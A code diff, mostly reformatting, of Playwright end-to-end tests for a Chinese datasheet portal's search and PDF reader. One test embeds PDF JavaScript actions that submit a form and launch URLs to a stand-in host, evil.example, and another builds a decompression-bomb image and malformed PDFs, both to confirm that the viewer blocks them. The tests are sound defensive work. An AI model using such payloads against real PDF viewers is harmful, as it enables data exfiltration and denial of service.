@@ -13,7 +13,10 @@ test("an engineer types a part number, opens it, reads its datasheet in the page
   await visit(page, portal.address);
   const box = page.getByRole("combobox", { name: "查型号" });
   await box.pressSequentially("stm32f103c8");
-  await page.getByRole("option", { name: /STM32F103C8T6/ }).first().click();
+  await page
+    .getByRole("option", { name: /STM32F103C8T6/ })
+    .first()
+    .click();
 
   await page.getByRole("heading", { level: 1, name: "STM32F103C8T6" }).waitFor();
   expect(await page.title()).toMatch(/^STM32F103C8T6 .*规格书 PDF 下载/);
@@ -35,7 +38,11 @@ test("an engineer types a part number, opens it, reads its datasheet in the page
   await page.waitForURL(/#page=2/);
 
   const saved = page.waitForEvent("download");
-  await page.getByRole("link", { name: "下载" }).or(page.getByRole("button", { name: "下载" })).first().click();
+  await page
+    .getByRole("link", { name: "下载" })
+    .or(page.getByRole("button", { name: "下载" }))
+    .first()
+    .click();
   const download = await saved;
   expect(download.suggestedFilename()).toMatch(/STM32F103C8T6.*\.pdf$/);
   expect((await readFile(await download.path())).subarray(0, 5).toString()).toBe("%PDF-");
@@ -92,7 +99,10 @@ test("a navigation brings the keyboard and the title of the page, but not to who
   await visit(page, `${portal.address}/specification/LM358`);
   expect(await focused()).toBe("BODY");
   await page.getByRole("link", { name: "LM358P", exact: true }).click();
-  await page.getByRole("status").filter({ hasText: /^LM358P .*芯谱$/ }).waitFor({ state: "attached" });
+  await page
+    .getByRole("status")
+    .filter({ hasText: /^LM358P .*芯谱$/ })
+    .waitFor({ state: "attached" });
   expect(await focused()).toBe("MAIN");
 
   let release = () => {};
@@ -120,7 +130,9 @@ test("the address of the reader names the page that is shown, whatever it named 
   await page.waitForURL(new RegExp(`#page=${pageCount}$`));
   await page.evaluate(() => (location.hash = "#page=-1"));
   await page.waitForURL(/#page=1$/);
-  const tops = await page.locator(".pdf-toolbar-group").evaluateAll((groups) => groups.map((group) => group.getBoundingClientRect().top));
+  const tops = await page
+    .locator(".pdf-toolbar-group")
+    .evaluateAll((groups) => groups.map((group) => group.getBoundingClientRect().top));
   expect(Math.max(...tops) - Math.min(...tops)).toBeLessThan(10);
 });
 
@@ -142,7 +154,13 @@ const PATIENT = { timeout: 60_000 };
 async function read(documents: Record<number, BuiltDocument | Buffer>, address: string) {
   const { page, portal } = journey;
   const data = await logIn(portal, "13800000001");
-  await page.context().addCookies(Object.entries({ token: data.token, uuid: DEVICE }).map(([name, value]) => ({ name, value, url: portal.address })));
+  await page.context().addCookies(
+    Object.entries({ token: data.token, uuid: DEVICE }).map(([name, value]) => ({
+      name,
+      value,
+      url: portal.address,
+    })),
+  );
   await page.addInitScript((login) => localStorage.setItem("loginInfo", login), JSON.stringify(data));
   for (const [id, document] of Object.entries(documents)) {
     const body = Buffer.isBuffer(document) ? document : buildPdf(document);
@@ -151,15 +169,30 @@ async function read(documents: Record<number, BuiltDocument | Buffer>, address: 
   await visit(page, `${portal.address}/specification/specification_detail/${address}`);
 }
 
-const pagesWith = (count: number, line: (page: number) => string) => Array.from({ length: count }, (_, index) => ({ lines: [line(index + 1)] }));
+const pagesWith = (count: number, line: (page: number) => string) =>
+  Array.from({ length: count }, (_, index) => ({ lines: [line(index + 1)] }));
 const contents = (...entries: [string, number][]): BuiltHeading[] => entries.map(([title, page]) => ({ title, page }));
-const scrolled = (viewer: number) => journey.page.locator(".pdf-scroll").nth(viewer).evaluate((element) => element.scrollTop);
+const scrolled = (viewer: number) =>
+  journey.page
+    .locator(".pdf-scroll")
+    .nth(viewer)
+    .evaluate((element) => element.scrollTop);
 const pageField = (viewer = 0) => journey.page.getByRole("textbox", { name: "页码" }).nth(viewer);
 
 test("an address that names a page and words opens there with the words marked, and the reader goes on from word to word, heading to heading, page to page", async () => {
   const { page } = journey;
-  const pages = Array.from({ length: 60 }, (_, index) => ({ lines: [`Page ${index + 1}`, index % 20 === 5 ? "R DS (on) = 5 mOhm at 3.3 V" : "nothing"] }));
-  const outline = [{ title: "1 特性", page: 1 }, { title: "2 引脚", page: 10, children: [{ title: "2.1 说明", page: 11, children: [{ title: "2.1.1 电源", page: 12 }] }] }, { title: "3 封装", page: 40 }];
+  const pages = Array.from({ length: 60 }, (_, index) => ({
+    lines: [`Page ${index + 1}`, index % 20 === 5 ? "R DS (on) = 5 mOhm at 3.3 V" : "nothing"],
+  }));
+  const outline = [
+    { title: "1 特性", page: 1 },
+    {
+      title: "2 引脚",
+      page: 10,
+      children: [{ title: "2.1 说明", page: 11, children: [{ title: "2.1.1 电源", page: 12 }] }],
+    },
+    { title: "3 封装", page: 40 },
+  ];
   await read({ 1: { pages, outline } }, `1#page=26&q=${encodeURIComponent("rds(on) 3.3V")}`);
   const marks = page.locator(".textLayer .highlight");
   await page.locator(".textLayer .highlight.selected", { hasText: "R DS (on)" }).waitFor();
@@ -234,8 +267,14 @@ test("the pages that are asked for are printed, and not the page around them", a
 
 test("two datasheets stand side by side and move together, by the headings that both have, until they are let go", async () => {
   const { page, portal } = journey;
-  const left = { pages: pagesWith(20, (number) => `Left ${number}`), outline: contents(["1 特性", 1], ["2 引脚说明", 5], ["3 封装", 15]) };
-  const right = { pages: pagesWith(30, (number) => `Right ${number}`), outline: contents(["特性", 1], ["4 引脚 说明", 9], ["8 封装", 25]) };
+  const left = {
+    pages: pagesWith(20, (number) => `Left ${number}`),
+    outline: contents(["1 特性", 1], ["2 引脚说明", 5], ["3 封装", 15]),
+  };
+  const right = {
+    pages: pagesWith(30, (number) => `Right ${number}`),
+    outline: contents(["特性", 1], ["4 引脚 说明", 9], ["8 封装", 25]),
+  };
   await read({ 1: left, 2: right }, "1");
   await page.locator(".textLayer").first().waitFor();
   await page.getByRole("button", { name: "对照阅读" }).click();
@@ -280,7 +319,8 @@ test("a PDF that would run, load or send something does nothing of the kind", as
   const { page, portal } = journey;
   const asked: string[] = [];
   page.context().on("request", (request) => asked.push(request.url()));
-  const script = "(app.alert\\('x'\\); this.submitForm\\('http://evil.example/form'\\); app.launchURL\\('http://evil.example/launch'\\);)";
+  const script =
+    "(app.alert\\('x'\\); this.submitForm\\('http://evil.example/form'\\); app.launchURL\\('http://evil.example/launch'\\);)";
   const actions = [
     "<< /S /URI /URI (https://maker.example/part) >>",
     `<< /S /JavaScript /JS ${script} >>`,
@@ -294,9 +334,21 @@ test("a PDF that would run, load or send something does nothing of the kind", as
   await read(
     {
       1: {
-        pages: [{ lines: ["Hostile", "script", "address", "file", "launch", "remote", "submit", "import"], actions, resources: `/XObject << /Outside ${FIRST_OWN_OBJECT} 0 R >>`, drawing: "/Outside Do" }],
+        pages: [
+          {
+            lines: ["Hostile", "script", "address", "file", "launch", "remote", "submit", "import"],
+            actions,
+            resources: `/XObject << /Outside ${FIRST_OWN_OBJECT} 0 R >>`,
+            drawing: "/Outside Do",
+          },
+        ],
         catalog: `/OpenAction << /S /JavaScript /JS ${script} >> /AA << /WC << /S /JavaScript /JS ${script} >> >> /Names << /JavaScript << /Names [(a) << /S /JavaScript /JS ${script} >>] >> >> /AcroForm << /Fields [] /XFA (<xdp:xdp/>) >>`,
-        objects: [stream("", "/Type /XObject /Subtype /Image /Width 9 /Height 9 /ColorSpace /DeviceGray /BitsPerComponent 8 /F (http://evil.example/picture.jpg) /FFilter /DCTDecode")],
+        objects: [
+          stream(
+            "",
+            "/Type /XObject /Subtype /Image /Width 9 /Height 9 /ColorSpace /DeviceGray /BitsPerComponent 8 /F (http://evil.example/picture.jpg) /FFilter /DCTDecode",
+          ),
+        ],
       },
     },
     "1",
@@ -304,22 +356,53 @@ test("a PDF that would run, load or send something does nothing of the kind", as
   await page.locator(".textLayer").getByText("Hostile").waitFor();
   const links = page.locator(".annotationLayer a");
   await links.first().waitFor({ state: "attached" });
-  const addresses = await links.evaluateAll((found) => found.map((link) => [link.getAttribute("href"), link.getAttribute("target"), link.getAttribute("rel")]));
+  const addresses = await links.evaluateAll((found) =>
+    found.map((link) => [link.getAttribute("href"), link.getAttribute("target"), link.getAttribute("rel")]),
+  );
   expect(addresses).toContainEqual(["https://maker.example/part", "_blank", "noopener noreferrer nofollow"]);
   for (const [href] of addresses) expect(href ?? "").not.toMatch(/^(javascript|file|data|blob):|calc/);
   // What is no address outside leads nowhere.
-  for (const link of await page.locator(".annotationLayer a:not([target=_blank])").all()) await link.dispatchEvent("click");
+  for (const link of await page.locator(".annotationLayer a:not([target=_blank])").all())
+    await link.dispatchEvent("click");
   expect(asked.filter((address) => !address.startsWith(portal.address) && !/^(data|blob):/.test(address))).toEqual([]);
   expect(page.context().pages()).toEqual([page]);
 });
 
 test("files that are broken on purpose are told as such, or shown without what can't be", async () => {
   const { page, portal } = journey;
-  const looped = buildPdf({ pages: [{ lines: ["Loop"] }] }).toString("latin1").replace(/\/Kids \[\d+ 0 R\]/g, "/Kids [2 0 R ]");
+  const looped = buildPdf({ pages: [{ lines: ["Loop"] }] })
+    .toString("latin1")
+    .replace(/\/Kids \[\d+ 0 R\]/g, "/Kids [2 0 R ]");
   const whole = buildPdf({ pages: pagesWith(3, (number) => `Page ${number}`) });
-  const bomb = { pages: [{ lines: ["Bomb"], resources: `/XObject << /Bomb ${FIRST_OWN_OBJECT} 0 R >>`, drawing: "q 400 0 0 400 60 60 cm /Bomb Do Q" }], objects: [stream("", "/Type /XObject /Subtype /Image /Width 60000 /Height 60000 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /FlateDecode")] };
-  const endless = { pages: pagesWith(2, (number) => `Page ${number}`), outline: Array.from({ length: 30_000 }, (_, index) => ({ title: `标题 ${index} ${"长".repeat(60)}`, page: 1 })) };
-  await read({ 1: Buffer.from(looped, "latin1"), 2: Buffer.from("<html>not a PDF</html>"), 3: whole.subarray(0, whole.length - 400), 4: bomb, 5: endless }, "1");
+  const bomb = {
+    pages: [
+      {
+        lines: ["Bomb"],
+        resources: `/XObject << /Bomb ${FIRST_OWN_OBJECT} 0 R >>`,
+        drawing: "q 400 0 0 400 60 60 cm /Bomb Do Q",
+      },
+    ],
+    objects: [
+      stream(
+        "",
+        "/Type /XObject /Subtype /Image /Width 60000 /Height 60000 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /FlateDecode",
+      ),
+    ],
+  };
+  const endless = {
+    pages: pagesWith(2, (number) => `Page ${number}`),
+    outline: Array.from({ length: 30_000 }, (_, index) => ({ title: `标题 ${index} ${"长".repeat(60)}`, page: 1 })),
+  };
+  await read(
+    {
+      1: Buffer.from(looped, "latin1"),
+      2: Buffer.from("<html>not a PDF</html>"),
+      3: whole.subarray(0, whole.length - 400),
+      4: bomb,
+      5: endless,
+    },
+    "1",
+  );
   await page.getByRole("alert").getByText("文件已损坏，无法显示").waitFor();
   await page.goto(`${portal.address}/specification/specification_detail/2`);
   await page.getByRole("alert").getByText("文件已损坏，无法显示").waitFor();
@@ -341,29 +424,48 @@ test("Chinese characters of a font that the file does not embed are drawn, on a 
   await page.locator(".textLayer").getByText("热阻亍電").waitFor();
   // How many different pictures the four characters give: boxes are all the same, and what is missing is blank.
   const pictures = () =>
-    page.locator("[data-page-number='1'] canvas").first().evaluate((element) => {
-      const canvas = element as HTMLCanvasElement;
-      const size = (32 / 595) * canvas.width;
-      const context = canvas.getContext("2d")!;
-      const inks = [0, 1, 2, 3].map((index) => {
-        const { data } = context.getImageData((60 / 595) * canvas.width + index * size, (70 / 842) * canvas.height, size, 1.2 * size);
-        return Array.from({ length: data.length / 4 }, (_, pixel) => (data[pixel * 4]! < 128 ? 1 : 0));
+    page
+      .locator("[data-page-number='1'] canvas")
+      .first()
+      .evaluate((element) => {
+        const canvas = element as HTMLCanvasElement;
+        const size = (32 / 595) * canvas.width;
+        const context = canvas.getContext("2d")!;
+        const inks = [0, 1, 2, 3].map((index) => {
+          const { data } = context.getImageData(
+            (60 / 595) * canvas.width + index * size,
+            (70 / 842) * canvas.height,
+            size,
+            1.2 * size,
+          );
+          return Array.from({ length: data.length / 4 }, (_, pixel) => (data[pixel * 4]! < 128 ? 1 : 0));
+        });
+        return inks.map((ink) => (ink.reduce<number>((sum, one) => sum + one, 0) > 40 ? ink.join("") : ""));
       });
-      return inks.map((ink) => ink.reduce<number>((sum, one) => sum + one, 0) > 40 ? ink.join("") : "");
-    });
   await expect.poll(async () => new Set((await pictures()).filter(Boolean)).size, PATIENT).toBe(4);
   // The browser advises against looking at what is drawn more than once, as this test does.
-  journey.complaints.splice(0, journey.complaints.length, ...journey.complaints.filter((text) => !text.includes("willReadFrequently")));
+  journey.complaints.splice(
+    0,
+    journey.complaints.length,
+    ...journey.complaints.filter((text) => !text.includes("willReadFrequently")),
+  );
 });
 
 test("of a long datasheet only the parts that are shown are fetched", async () => {
-  const { page, portal, dataDir } = journey;
-  const files = path.join(dataDir, "..", "long");
+  const { page, portal, environment } = journey;
+  const files = path.join(environment.DATA_DIR, "..", "long");
   await mkdir(files);
-  await writeFile(path.join(files, "LONG4M.pdf"), buildPdf({ pages: Array.from({ length: 40 }, (_, index) => ({ lines: [`Page ${index + 1}`], weightBytes: 100_000 })) }));
-  const importer = startProgram("import", { DATA_DIR: dataDir }, [files]);
+  await writeFile(
+    path.join(files, "LONG4M.pdf"),
+    buildPdf({
+      pages: Array.from({ length: 40 }, (_, index) => ({ lines: [`Page ${index + 1}`], weightBytes: 100_000 })),
+    }),
+  );
+  const importer = startProgram("import", environment, [files]);
   expect(await importer.ended).toBe(0);
-  const newest = (await (await fetch(`${portal.address}/api/spec/v1/newest`)).json()) as { data: { data: { id: number; sizeBytes: number }[] } };
+  const newest = (await (await fetch(`${portal.address}/api/spec/v1/newest`)).json()) as {
+    data: { data: { id: number; sizeBytes: number }[] };
+  };
   const { id, sizeBytes } = newest.data.data.find((document) => document.sizeBytes > 4_000_000)!;
   const ranges: string[] = [];
   let received = 0;
@@ -375,7 +477,10 @@ test("of a long datasheet only the parts that are shown are fetched", async () =
     requests.add(requestId);
     ranges.push(request.headers["range"] ?? request.headers["Range"] ?? "whole");
   });
-  devtools.on("Network.dataReceived", ({ requestId, dataLength }) => void (requests.has(requestId) && (received += dataLength)));
+  devtools.on(
+    "Network.dataReceived",
+    ({ requestId, dataLength }) => void (requests.has(requestId) && (received += dataLength)),
+  );
   await read({}, String(id));
   await page.locator(".textLayer").getByText("Page 1").waitFor();
   await page.locator(".pdf-viewer[aria-busy=false]").waitFor();
